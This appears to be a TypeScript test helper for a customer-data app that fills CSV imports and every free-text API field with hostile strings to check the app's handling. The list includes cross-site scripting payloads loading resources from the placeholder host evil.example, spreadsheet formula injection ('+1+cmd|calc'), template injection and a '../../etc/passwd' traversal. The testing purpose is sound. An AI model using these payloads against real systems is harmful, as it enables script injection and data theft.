import { expect } from 'vitest';
import { runImport } from '../../src/collect/index.ts';
import { drain } from '../../src/kernel/facts.ts';
import { loop } from '../../src/loop.ts';
import type { Served } from './served.ts';

/** A foreign address: a browser that asks it for anything has been talked into it by a text. */
export const FOREIGN = 'evil.example';
const HIT = 'window.__ran=(window.__ran||0)+1';

/** What people and programs write where a name is asked for. At most 80 characters each: the shortest slot there is. */
export const HOSTILE: readonly string[] = [
  `<script>${HIT}</script>`, `<img src=x onerror="${HIT}">`, `"><svg/onload=${HIT}>`, `'-${HIT}-'`, `javascript:${HIT}`, `<a href="javascript:${HIT}">a</a>`, `<img src=//${FOREIGN}/p.gif>`,
  `</script><script src=//${FOREIGN}/a.js></script>`, `<iframe src=//${FOREIGN}></iframe>`, `<style>@import '//${FOREIGN}/s.css';</style>`, `<meta http-equiv=refresh content="0;url=//${FOREIGN}">`, `url(//${FOREIGN}/b.png)`,
  '{{constructor.constructor("alert(1)")()}}', '${alert(1)} #{alert(1)} <%= 7*7 %> {% raw %} [[7*7]]', '{name, plural, one {#} other {', '\u202Egnp.exe\u202C \u2066x', 'W'.repeat(80), '龘'.repeat(80), '"', '\\" \' ` \\', 'null', 'undefined', 'NaN', '[object Object]', '__proto__', 'constructor',
  '🧨👩‍👩‍👧‍👦🏴‍☠️', 'Z̸̧̢͚̝a̷l̶g̵o̴', '=HYPERLINK("//evil.example";"x")', '+1+cmd|calc', '-2-3', '@SUM(1)', '\tTab', '%s%n%x', '&lt;b&gt;', '../../etc/passwd', 'a\u200bb', '<b>bold</b>',
];

const csvField = (text: string): string => `"${text.replaceAll('"', '""')}"`;
const at = (n: number): string => HOSTILE[((n % HOSTILE.length) + HOSTILE.length) % HOSTILE.length] as string;
const iso = (n: number): string => `2026-0${1 + (n % 6)}-1${n % 9} 10:00:00`;
const table = (header: readonly string[], rows: readonly (readonly string[])[]): string => [header, ...rows].map((row) => row.map(csvField).join(',')).join('\n');

/** Files whose every text is hostile, each text once in each column; some rows cannot be read at all and go to quarantine. */
function files(): Record<string, string> {
  const rows = HOSTILE.map((_, n) => n);
  return {
    [`<img src=x onerror=${HIT}>.csv`]: table(
      ['order_no', 'shop', 'order_status', 'created_at', 'paid_at', 'amount_paid', 'channel', 'coupon', 'phone', 'customer_name', 'province', 'city', 'company', at(0), at(1), at(20), at(24)],
      rows.flatMap((n) => [0, 1].map((time) => [`${at(n)}${time}`, at(n + 1), 'paid', iso(n + time), iso(n + time), String(100 + n), at(n + 2), at(n + 3), `139${String(10_000_000 + n)}`, at(n), at(n + 4), at(n + 5), at(n + 6), at(n + 7), at(n + 8), at(n + 9), at(n + 10)]))),
    'lines.csv': table(['order_no', 'shop', 'sku', 'product_name', 'category', 'quantity', 'line_amount'], rows.map((n) => [`${at(n)}0`, at(n + 1), at(n + 2), at(n + 3), at(n + 4), '1', '5.00'])),
    'refunds.csv': table(['refund_no', 'order_no', 'shop', 'sku', 'refunded_at', 'refund_amount', 'refund_status', 'refund_reason'], rows.map((n) => [`R${at(n)}`, `${at(n)}1`, at(n + 1), at(n + 2), iso(n + 2), '1.00', 'done', at(n + 3)])),
    'customers.csv': table(['phone', 'name', 'since', 'gender', 'city', 'tier', 'tags', 'company'], rows.map((n) => [n % 4 === 0 ? at(n + 5) : `139${String(10_000_000 + n)}`, at(n), n % 5 === 0 ? at(n + 2) : '2025-12-01', at(n + 1), at(n + 2), at(n + 3), at(n + 4), at(n + 5)])),
    'events.csv': table(['event', 'time', 'phone', 'shop', 'channel', 'url', 'campaign'], rows.map((n) => [at(n), iso(n), `139${String(10_000_000 + n)}`, at(n + 1), at(n + 2), at(n + 3), at(n + 4)])),
  };
}

/** Hands files over as a browser does and lets the import run to its end. */
export async function importHostile({ app, stores, workspaceId, owner }: Served): Promise<string> {
  const mark = 'x-boundary';
  const parts = Object.entries(files()).map(([name, text]) => `--${mark}\r\ncontent-disposition: form-data; name="files"; filename="${name.replaceAll('"', '%22')}"\r\ncontent-type: text/csv\r\n\r\n${text}\r\n`);
  const sent = await app.inject({ method: 'POST', url: '/api/v1/imports/uploads', headers: { 'x-perennial': '1', cookie: owner.cookie, 'content-type': `multipart/form-data; boundary=${mark}` }, payload: `${parts.join('')}--${mark}--\r\n` });
  expect(sent.statusCode).toBe(201);
  const options = { source: 'files', sourceName: at(1), shop: at(2), channel: at(3) };
  const preview = await owner.call<{ files: { upload: string; mapping: unknown }[] }>('POST', '/api/v1/imports/preview', { uploads: (sent.json() as { uploads: { id: string }[] }).uploads.map(({ id }) => ({ id })), options });
  expect(preview.status).toBe(200);
  const started = await owner.call<{ id: string }>('POST', '/api/v1/imports', { uploads: preview.body.files.map(({ upload: id, mapping }) => ({ id, mapping })), options });
  expect(started.status).toBe(202);
  await runImport(stores, workspaceId, started.body.id);
  await drain(stores, loop);
  return started.body.id;
}

type Planted = { account: string; taken: number; faults: string[] };

/** Writes every hostile text into every slot that takes free text, by the API as the pages use it. A refusal with a reason is as good as taking it. */
export async function plant({ owner }: Served, customer: string): Promise<Planted> {
  const faults: string[] = [];
  let taken = 0;
  const write = async (method: 'POST' | 'PUT' | 'PATCH', url: string, body: unknown): Promise<string> => {
    const reply = await owner.call<{ id?: string }>(method, `/api/v1${url}`, body);
    if (reply.status >= 500) faults.push(`${reply.status} ${method} ${url} ${JSON.stringify(body)}`);
    if (reply.status < 300) taken++;
    return reply.body.id ?? '';
  };
  const everybody = { version: 1, root: { kind: 'and', of: [] } };
  const stages = ['prospect', 'new', 'active', 'mature', 'declining', 'at_risk', 'churned', 'won_back'];
  const account = await write('POST', '/accounts', { name: at(0), industry: at(1), owner: at(2) });
  await write('PATCH', '/session/profile', { name: at(1) });
  await write('PATCH', '/workspaces/current', { name: at(0) });
  for (const [n, text] of HOSTILE.entries()) {
    await Promise.all([
      write('POST', '/tags', { key: `t${n}`, name: text }), write('POST', '/fields', { key: `f${n}`, label: text, type: 'text' }), write('POST', '/fields', { label: text, type: 'enum', options: [text, at(n + 1)] }),
      write('POST', '/segments', { name: text, description: at(n + 1), tree: { version: 1, root: { kind: 'tag', test: { op: 'any_of', values: [text] } } } }),
      write('POST', '/insight/promotions', { name: text, shop: at(n + 1), firstDay: '2026-06-01', lastDay: '2026-06-03' }), write('POST', '/keys', { name: text, scopes: ['customers.read'] }),
      write('POST', '/sources', { key: `s${n}`, name: text, kind: 'orders', shop: at(n + 1), channel: at(n + 2) }), write('POST', '/tasks', { text, accountId: account, assignee: at(n + 1) }),
      write('POST', `/customers/${customer}/notes`, { body: text }), write('POST', `/accounts/${account}/notes`, { body: text }), write('POST', `/accounts/${account}/issues`, { title: text, detail: at(n + 1) }),
      write('POST', `/accounts/${account}/contacts`, { name: text, title: at(n + 1), role: 'decision_maker', background: at(n + 2), relationOwner: at(n + 3), email: `c${n}@example.test` }),
    ]);
    if (n < stages.length) await write('PUT', `/lifecycle/matrix/${stages[n]}`, { needs: text, goal: at(n + 1), kpi: at(n + 2), ownerTeam: at(n + 3) });
    if (n < 12) await write('POST', '/accounts', { name: text, industry: at(n + 1) });
    if (n < 6) await write('POST', '/insight/goals', { name: text, metricId: 'customers', scope: { from: '2026-01-01', to: '2026-12-31', population: { kind: 'tree', tree: everybody } }, target: 10, owner: at(n + 1) });
  }
  return { account, taken, faults };
}
